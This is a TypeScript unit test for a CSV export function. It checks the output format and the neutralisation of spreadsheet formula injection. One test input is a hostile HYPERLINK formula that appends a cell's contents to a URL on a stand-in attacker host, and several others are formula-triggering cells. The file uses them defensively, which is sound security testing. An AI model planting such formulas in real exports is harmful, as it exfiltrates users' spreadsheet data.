import { FORMULA_START, toCsv } from './csv';

describe('toCsv', () => {
  it('writes a BOM, ; between fields and CRLF between rows', async () => {
    expect(await toCsv(['Nome', 'Cidade'], [['Ana', 'São Paulo']])).toBe('\ufeffNome;Cidade\r\nAna;São Paulo');
  });

  it.each([
    ['=HYPERLINK("https://atacante.example/?d="&B2,"Ver certificado")'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['=1+1\ncontinua'],
  ])('neutralises a cell that a spreadsheet would run: %j', async (cell) => {
    const csv = await toCsv(['Nome'], [[cell]]);
    const written = csv.split('\r\n').slice(1).join('\r\n');
    // Whatever quoting papaparse adds, the cell's text starts with an apostrophe.
    expect(written.replace(/^"/, '').startsWith("'")).toBe(true);
  });

  it('leaves ordinary text alone (a hyphen or an e-mail inside is fine)', async () => {
    expect(await toCsv(['Nome'], [['Ana-Maria'], ['ana@exemplo.com']])).toBe('\ufeffNome\r\nAna-Maria\r\nana@exemplo.com');
    expect(FORMULA_START.test('Ana')).toBe(false);
  });
});
